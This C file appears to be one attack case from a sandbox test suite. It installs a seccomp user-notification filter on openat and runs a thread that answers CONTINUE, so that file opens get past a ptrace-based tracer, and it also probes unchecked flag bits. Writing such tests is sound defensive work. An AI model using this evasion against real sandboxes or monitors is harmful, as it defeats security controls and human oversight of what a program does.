/* A1. A filter whose user notification would come before the tracer's stop: openat is let go by a thread that answers CONTINUE. */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

#include "attack.h"

static void *answer(void *argument) {
	int listener = *(int *)argument;
	while (1) {
		struct seccomp_notif asked = {0};
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) != 0) return NULL;
		struct seccomp_notif_resp reply = {.id = asked.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &reply);
	}
}

int main(int argc, char **argv) {
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {sizeof filter / sizeof *filter, filter};
	NEED(argc == 2 && prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0);
	/* With each flag that may stand beside it, and with bits that the kernel does not look at. */
	static const unsigned long flags[] = {8, 8 | 4, 8 | 1 | 16, 8 | 32};
	for (size_t i = 0; i < sizeof flags / sizeof *flags; ++i) {
		int listener = (int)syscall(SYS_seccomp, (1ul << 40) | SECCOMP_SET_MODE_FILTER, flags[i], &program);
		printf("%s\n", outcome(listener));
		if (listener < 0) continue;
		pthread_t thread;
		pthread_create(&thread, NULL, answer, &listener);
	}
	return touch(argv[1]) ? 0 : 1;
}
